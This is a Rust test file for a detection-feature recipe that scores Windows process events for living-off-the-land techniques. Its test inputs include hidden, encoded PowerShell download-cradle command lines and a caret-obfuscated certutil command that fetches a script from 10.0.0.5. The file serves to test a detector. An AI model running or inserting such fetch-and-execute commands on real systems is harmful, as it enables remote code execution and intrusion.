//! The lotl recipe's features on hand-made events.

use lotl_events::ProcessEvent;
use lotl_features::lotl::{LotlRecipe, SCALARS};
use lotl_features::{FeatureRecipe, FeatureRow, FeatureValue, LotlParams};

fn recipe() -> LotlRecipe {
    LotlRecipe::new(LotlParams::default()).unwrap()
}

fn num(e: &ProcessEvent, name: &str) -> f32 {
    let r = recipe();
    let mut row = FeatureRow::new();
    r.featurize(e, &mut row);
    match row.value(r.features(), name) {
        Some(FeatureValue::Num(v)) => v,
        other => panic!("{name}: {other:?}"),
    }
}

fn ev(exe: &str, cl: &str) -> ProcessEvent {
    let mut e = ProcessEvent {
        process_executable: Some(exe.into()),
        process_command_line: Some(cl.into()),
        parent_executable: Some(r"C:\Windows\explorer.exe".into()),
        ..Default::default()
    };
    e.complete();
    e
}

#[test]
fn every_scalar_is_documented_once() {
    let r = recipe();
    for (name, doc) in SCALARS {
        assert!(!doc.is_empty());
        assert_eq!(
            r.features().iter().filter(|f| f.name == *name).count(),
            1,
            "{name}"
        );
    }
}

#[test]
fn masquerading() {
    let legit = ev(r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs");
    assert_eq!(num(&legit, "masq_outside_legit_dir"), 0.0);
    assert_eq!(num(&legit, "proc_is_system_binary"), 1.0);
    assert_eq!(num(&legit, "masq_lookalike"), 0.0);
    let moved = ev(r"C:\Users\bob\AppData\Roaming\svchost.exe", "svchost.exe");
    assert_eq!(num(&moved, "masq_outside_legit_dir"), 1.0);
    assert_eq!(num(&moved, "proc_user_writable_dir"), 1.0);
    let typo = ev(r"C:\Windows\scvhost.exe", "scvhost.exe");
    assert!(num(&typo, "masq_lookalike") > 0.9);
    assert_eq!(
        num(&typo, "masq_outside_legit_dir"),
        0.0,
        "not a system name: nothing to compare"
    );
    let mut renamed = ev(r"C:\Temp\notepad2.exe", "notepad2.exe -x");
    renamed.process_pe_original_file_name = Some("RUNDLL32.EXE".into());
    assert_eq!(num(&renamed, "pe_name_mismatch"), 1.0);
    assert_eq!(num(&renamed, "pe_renamed_system_binary"), 1.0);
    assert!(
        num(&legit, "pe_name_mismatch").is_nan(),
        "no PE name reported"
    );
}

#[test]
fn tokens_and_obfuscation() {
    let e = ev(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    );
    assert_eq!(num(&e, "cl_flags"), 3.0);
    assert!(num(&e, "cl_b64_max_run") >= 80.0);
    assert!(num(&e, "cl_encoded_markers") >= 1.0);
    assert!(num(&e, "cl_ps_stealth") >= 2.0);
    assert_eq!(num(&e, "kw_defense_evasion"), 1.0);
    let e = ev(
        r"C:\Windows\System32\cmd.exe",
        r#"c^m^d /c "cer^tutil -urlcache -f http://10.0.0.5:8080/a.ps1 \\srv\x""#,
    );
    assert_eq!(num(&e, "cl_carets"), 3.0);
    assert_eq!(num(&e, "cl_urls"), 1.0);
    assert_eq!(num(&e, "cl_ipv4"), 1.0);
    assert_eq!(num(&e, "cl_unc"), 1.0);
    assert_eq!(num(&e, "cl_script_ext"), 1.0);
    assert_eq!(
        num(&ev("a.exe", "ping 999.1.1.1 1.2.3 1.2.3.4.5"), "cl_ipv4"),
        0.0
    );
    assert_eq!(num(&ev("a.exe", "PoWeRsHeLl"), "cl_case_flips"), 4.0);
}

#[test]
fn user_and_token() {
    let mut e = ev(r"C:\Windows\System32\cmd.exe", "cmd");
    e.user_id = Some("S-1-5-18".into());
    e.integrity_level = Some("system".into());
    assert_eq!(num(&e, "user_system"), 1.0);
    assert_eq!(num(&e, "user_human"), 0.0);
    assert_eq!(num(&e, "integrity"), 4.0);
    assert!(num(&e, "elevation").is_nan());
    e.user_id = Some("S-1-5-21-111-222-333-1104".into());
    e.elevation_type = Some("full".into());
    assert_eq!(num(&e, "user_human"), 1.0);
    assert_eq!(num(&e, "elevation"), 2.0);
    assert_eq!(num(&e, "elevated"), 1.0);
    e.user_id = None;
    e.user_name = Some("HOST$".into());
    assert_eq!(num(&e, "user_service"), 1.0);
}

#[test]
fn ngrams_are_term_frequencies_and_stable() {
    let r = recipe();
    let mut row = FeatureRow::new();
    r.featurize(
        &ev(r"C:\Windows\System32\cmd.exe", "cmd /c whoami"),
        &mut row,
    );
    let values = row.values(r.features());
    let cl: Vec<f32> = values
        .iter()
        .filter(|(n, _)| n.starts_with("cl_ngram_"))
        .map(|(_, v)| match v {
            FeatureValue::Num(x) => *x,
            FeatureValue::Cat(_) => f32::NAN,
        })
        .collect();
    assert_eq!(cl.len(), 256);
    assert!((cl.iter().sum::<f32>() - 1.0).abs() < 1e-4);
    // Pinned values (recipe v2): the hash must never change silently (it would invalidate
    // models); changing it means bumping the recipe version.
    let nonzero: Vec<usize> = cl
        .iter()
        .enumerate()
        .filter(|(_, v)| **v > 0.0)
        .map(|(i, _)| i)
        .take(5)
        .collect();
    let again = {
        let mut row2 = FeatureRow::new();
        r.featurize(
            &ev(r"C:\Windows\System32\cmd.exe", "cmd /c whoami"),
            &mut row2,
        );
        row2.numeric().to_vec()
    };
    let bits = |v: &[f32]| v.iter().map(|x| x.to_bits()).collect::<Vec<_>>();
    assert_eq!(bits(row.numeric()), bits(&again));
    assert_eq!(nonzero, vec![5, 7, 11, 20, 26]);
    // Digits runs normalise away: two ping counts give the same n-grams.
    let a = {
        r.featurize(&ev("ping.exe", "ping -n 12345 host"), &mut row);
        row.numeric()[row.numeric().len() - 320..row.numeric().len() - 64].to_vec()
    };
    let b = {
        r.featurize(&ev("ping.exe", "ping -n 99999 host"), &mut row);
        row.numeric()[row.numeric().len() - 320..row.numeric().len() - 64].to_vec()
    };
    assert_eq!(a, b);
}

#[test]
fn parent_child_pair() {
    let mut e = ev(r"C:\Windows\System32\cmd.exe", "cmd");
    e.parent_name = Some("WINWORD.EXE".into());
    let r = recipe();
    let mut row = FeatureRow::new();
    r.featurize(&e, &mut row);
    assert_eq!(
        row.value(r.features(), "parent_child"),
        Some(FeatureValue::Cat(Some("winword.exe|cmd.exe")))
    );
    assert_eq!(
        row.value(r.features(), "parent_is_office"),
        Some(FeatureValue::Num(1.0))
    );
    assert_eq!(
        row.value(r.features(), "child_is_shell"),
        Some(FeatureValue::Num(1.0))
    );
}

#[test]
fn memoised_command_line_and_path_features_equal_fresh_ones() {
    let r = LotlRecipe::new(LotlParams::default()).unwrap();
    let base = ev(r"C:\Windows\System32\cmd.exe", "cmd /c whoami /all");
    // Each image input on its own: the image memo must tell every one of them apart.
    let renamed = ProcessEvent {
        process_pe_original_file_name: Some("net.exe".into()),
        ..base.clone()
    };
    let empty_pe = ProcessEvent {
        process_pe_original_file_name: Some("".into()),
        ..base.clone()
    };
    let other_name = ProcessEvent {
        process_name: Some("cnd.exe".into()),
        ..base.clone()
    };
    let other_parent = ProcessEvent {
        parent_executable: Some(r"C:\Program Files\Microsoft Office\WINWORD.EXE".into()),
        parent_name: Some("WINWORD.EXE".into()),
        ..base.clone()
    };
    let no_parent_path = ProcessEvent {
        parent_executable: None,
        ..base.clone()
    };
    // Raw lines that normalise alike (case, numbers): the n-gram block is shared, the raw
    // shape features are not.
    let shouted = ev(r"C:\Windows\System32\cmd.exe", "CMD /C WHOAMI /ALL");
    let numbered = ev(r"C:\Windows\System32\cmd.exe", "cmd /c ping -n 123456 host");
    let renumbered = ev(
        r"C:\Windows\System32\cmd.exe",
        "cmd /c ping -n 9876543 host",
    );
    let events = [
        shouted,
        numbered,
        renumbered,
        base.clone(),
        renamed,
        empty_pe,
        other_name,
        other_parent,
        no_parent_path,
        ev(r"C:\Windows\System32\cmd.exe", "cmd /c whoami /all"),
        ev(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell -nop -w hidden -enc SQBFAFgA http://10.0.0.5/a.ps1",
        ),
        ev(
            r"C:\Users\bob\AppData\Local\Temp\cmd.exe",
            "cmd /c whoami /all",
        ),
        // Long enough to be memoised only since the memo is bounded by bytes.
        ev(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            &format!(
                "powershell -enc {}",
                "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA".repeat(120)
            ),
        ),
    ];
    let featurize = |e: &ProcessEvent| {
        let mut row = FeatureRow::new();
        r.featurize(e, &mut row);
        row.numeric()
            .iter()
            .map(|x| x.to_bits())
            .collect::<Vec<_>>()
    };
    // This thread: the second and third events reuse the first's command line features.
    let warm: Vec<_> = events.iter().chain(&events).map(featurize).collect();
    // A fresh thread starts with an empty memo: every value computed from scratch.
    let cold: Vec<_> = std::thread::scope(|s| {
        events
            .iter()
            .map(|e| s.spawn(move || featurize(e)).join().unwrap())
            .collect()
    });
    for (i, w) in warm.iter().enumerate() {
        assert_eq!(w, &cold[i % events.len()], "event {i}");
    }
    // Same command line, different image: the image features differ, the memo does not leak.
    for i in [4, 6, 7, 8, 11] {
        assert_ne!(warm[3], warm[i], "event {i}");
    }
    // Upper case changes the shape (upper share), not the normalised n-grams.
    assert_ne!(warm[0], warm[3]);
    assert_ne!(warm[1], warm[2]);
    // Another bucket count on the same thread gets its own entries.
    let small = LotlRecipe::new(LotlParams {
        cl_buckets: 16,
        path_buckets: 8,
    })
    .unwrap();
    let mut row = FeatureRow::new();
    small.featurize(&events[3], &mut row);
    assert_eq!(row.numeric().len(), warm[3].len() - (256 - 16) - (64 - 8));
    let mut row = FeatureRow::new();
    r.featurize(&events[0], &mut row);
    assert_eq!(row.numeric().len(), warm[0].len());
}
